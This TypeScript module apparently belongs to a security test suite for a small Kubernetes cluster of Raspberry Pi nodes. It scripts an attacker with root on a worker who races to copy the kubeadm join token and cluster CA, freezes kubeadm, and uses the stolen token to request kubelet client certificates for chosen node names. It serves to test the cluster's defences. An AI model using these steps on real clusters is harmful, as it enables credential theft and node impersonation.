/** What an attacker with root on a worker can try with its join token and its kubelet's certificate. */
import { randomBytes } from "node:crypto";
import type { ExecResult, Pi } from "../rack/api.ts";
import { until } from "../story/wait.ts";

const STOLEN = "/root/stolen";
const UNIT = "pi-agent-kubeadm";
const REQUESTS = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
const KUBELET_SIGNER = "kubernetes.io/kube-apiserver-client-kubelet";

/**
 * Waits for the next join, steals its token and cluster address, and freezes its kubeadm. Call this before the join.
 */
export async function lieInWait(worker: Pi): Promise<void> {
  const script = `
    mkdir -p ${STOLEN}
    until cp /run/pi-agent/kubeadm-join.yaml /run/pi-agent/discovery.conf ${STOLEN} 2>/dev/null; do sleep 0.02; done
    pid=0
    until [ "$pid" -gt 0 ]; do pid=$(systemctl show --value --property=MainPID ${UNIT}); done
    kill -STOP "$pid"
    touch ${STOLEN}/frozen`;
  await worker.exec(["rm", "-rf", STOLEN]);
  await worker.exec(["systemctl", "reset-failed", "thief"], { check: false });
  await worker.exec(["systemd-run", "--quiet", "--unit=thief", "sh", "-c", script]);
}

/** An unused join token, and the client that presents it. */
export interface Thief {
  readonly token: string;
  /** kubectl as the token's holder; its output is the answer, whatever its exit code. */
  kubectl(args: readonly string[], stdin?: string): Promise<ExecResult>;
}

/** What was stolen, once there is something. */
export async function stolenToken(worker: Pi, limit: number): Promise<Thief> {
  const frozen = async () => (await worker.read(`${STOLEN}/frozen`)) !== undefined;
  await until("a join token is stolen", frozen, { limit, every: 200 });
  const config = (await worker.read(`${STOLEN}/kubeadm-join.yaml`)) ?? "";
  const [, token = ""] = /"tlsBootstrapToken": "([a-z0-9]{6}\.[a-z0-9]{16})"/.exec(config) ?? [];
  const discovery: unknown = JSON.parse(((await worker.read(`${STOLEN}/discovery.conf`)) ?? "").replace(/^---\n/, ""));
  const [{ cluster }] = (discovery as { clusters: [{ cluster: Record<string, string> }] }).clusters;
  const ca = Buffer.from(cluster["certificate-authority-data"] ?? "", "base64").toString("utf8");
  await worker.exec(["tee", `${STOLEN}/ca.crt`], { stdin: ca });
  // A worker does not have one of its own.
  await worker.exec(["apt-get", "install", "--yes", "-oDPkg::Lock::Timeout=60", "kubectl"]);
  const own = [`--server=${cluster.server}`, `--certificate-authority=${STOLEN}/ca.crt`, `--token=${token}`];
  return {
    token,
    kubectl: (args, stdin) =>
      worker.exec(["kubectl", "--kubeconfig=/dev/null", ...own, ...args], { stdin, check: false }),
  };
}

/** Ends the frozen kubeadm: its join has failed, as its agent notices. */
export async function endJoin(worker: Pi): Promise<void> {
  await worker.exec(["systemctl", "kill", "--signal=KILL", UNIT]);
  const isCleared = async () => (await worker.read("/run/pi-agent/kubeadm-join.yaml")) === undefined;
  await until("the agent has seen the end of the join", isCleared, { limit: 30, every: 100 });
}

/** Creates a certificate request for `commonName` with a fresh key; returns its name. */
export async function askCertificate(
  worker: Pi,
  kubectl: Thief["kubectl"],
  { commonName, organisation = "system:nodes" }: { readonly commonName: string; readonly organisation?: string },
): Promise<{ readonly name: string; readonly answer: ExecResult }> {
  const name = `thief-${randomBytes(4).toString("hex")}`;
  const key = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", `${STOLEN}/${name}.key`];
  const subject = ["-subj", `/O=${organisation}/CN=${commonName}`];
  const { stdout: pem } = await worker.exec(["openssl", "req", "-new", ...key, ...subject]);
  const request = {
    apiVersion: "certificates.k8s.io/v1",
    kind: "CertificateSigningRequest",
    metadata: { name },
    spec: {
      request: Buffer.from(pem).toString("base64"),
      signerName: KUBELET_SIGNER,
      usages: ["digital signature", "client auth"],
    },
  };
  return { name, answer: await kubectl(["create", `--raw=${REQUESTS}`, "--filename=-"], JSON.stringify(request)) };
}

/** kubectl with the kubelet's own certificate. */
export const asKubelet =
  (worker: Pi): Thief["kubectl"] =>
  (args, stdin) =>
    worker.exec(["kubectl", "--kubeconfig=/etc/kubernetes/kubelet.conf", ...args], { stdin, check: false });

/** Records on the master every join token that appears and disappears. */
export async function watchTokens(master: Pi): Promise<{ history(): Promise<TokenHistory> }> {
  const watch = [
    ...["kubectl", "--kubeconfig=/etc/kubernetes/admin.conf", "--namespace=kube-system", "get", "secrets"],
    ...["--field-selector=type=bootstrap.kubernetes.io/token", "--watch", "--output-watch-events"],
  ];
  const log = "/run/tokens.log";
  await master.exec([
    "systemd-run",
    "--quiet",
    "--unit=watch-tokens",
    `--property=StandardOutput=append:${log}`,
    ...watch,
  ]);
  return {
    async history() {
      return historyOf((await master.read(log)) ?? "");
    },
  };
}

export interface TokenHistory {
  readonly made: number;
  readonly mostAtOnce: number;
}

export function historyOf(log: string): TokenHistory {
  const [seen, alive] = [new Set<string>(), new Set<string>()];
  let mostAtOnce = 0;
  for (const line of log.split("\n")) {
    const [, type = "", name = ""] = /^(ADDED|MODIFIED|DELETED)\s+bootstrap-token-(\w+)/.exec(line) ?? [];
    if (name === "") continue;
    seen.add(name);
    if (type === "DELETED") alive.delete(name);
    else alive.add(name);
    mostAtOnce = Math.max(mostAtOnce, alive.size);
  }
  return { made: seen.size, mostAtOnce };
}
